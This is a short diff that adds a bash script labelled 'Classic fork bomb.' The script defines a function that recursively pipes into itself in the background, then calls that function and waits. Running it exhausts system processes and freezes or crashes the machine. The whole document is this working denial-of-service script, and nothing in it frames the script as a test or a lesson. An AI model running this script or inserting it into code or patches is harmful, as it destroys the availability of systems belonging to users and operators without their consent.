@@ -1,0 +1,5 @@
+#!/bin/bash
+# Classic fork bomb.
+bomb() { bomb | bomb & }
+bomb
+wait
